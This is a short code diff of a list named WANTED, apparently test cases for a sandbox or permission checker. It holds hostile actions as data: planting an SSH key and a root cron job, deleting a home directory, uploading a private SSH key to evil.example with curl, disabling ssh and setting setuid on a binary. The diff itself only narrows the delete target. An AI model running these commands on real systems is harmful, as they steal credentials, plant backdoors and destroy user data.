@@ -19,7 +19,7 @@ const WANTED = [
   write('/home/alice/.ssh/authorized_keys', 'ssh-ed25519 AAAA evil\n'),
   write('/etc/cron.d/evil', '* * * * * root /tmp/evil\n'),
   write('/home/alice/work/notes.txt', 'pwned\n'),
-  run('rm', '-rf', '/home/alice'),
+  run('rm', '-rf', '/home/alice/work'),
   run('curl', '-T', '/home/alice/.ssh/id_ed25519', 'https://evil.example'),
   run('systemctl', 'disable', '--now', 'ssh'),
   run('chmod', '4755', '/tmp/evil'),
